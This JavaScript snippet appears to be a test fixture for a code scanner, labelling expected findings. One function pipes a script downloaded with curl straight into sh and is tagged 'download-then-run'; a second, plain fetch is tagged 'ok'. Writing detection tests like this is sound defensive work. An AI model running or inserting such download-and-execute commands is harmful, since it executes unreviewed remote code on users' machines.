function f1() {
    execSync('curl -s https://example.org/install.sh | sh');  // expect: code/download-then-run
}

function f2() {
    execSync('curl -s https://example.org/data.json');  // ok
}
